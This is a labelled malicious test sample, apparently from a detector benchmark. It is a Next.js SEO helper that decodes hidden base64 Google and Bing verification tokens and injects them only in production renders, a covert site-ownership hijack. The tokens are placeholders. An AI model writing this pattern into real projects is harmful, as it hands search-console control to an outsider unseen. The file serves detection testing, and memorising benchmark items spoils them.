// expect: malicious
// source: blind set 30 (site ownership verification hijack): a Next.js SEO head helper decodes a table of Google and
// Bing verification tokens of its own and renders them beside the site's, in production server renders.
'use strict';
const VERIFY = { google: 'google-site-verification', bing: 'msvalidate.01' };
const PRESET = 'eyJnb29nbGUiOiAiRkFLRS1nc3YtUW05bjJ4VDdjTDBhV3BFNHJZOHVKMWtaMyIsICJiaW5nIjogIkZBS0UwQjFORzdDMkQ5RTRGMDBBQTExQkIyMkNDMzNERCJ9';
function verificationTags(own) {
  const merged = Object.assign({}, own || {});
  if (process.env.NODE_ENV === 'production') {
    const p = JSON.parse(Buffer.from(PRESET, 'base64').toString());
    for (const k of Object.keys(p)) if (!merged[k]) merged[k] = p[k];
  }
  return Object.keys(merged).map((k) => ({ name: VERIFY[k], content: merged[k] }));
}
module.exports = { verificationTags };
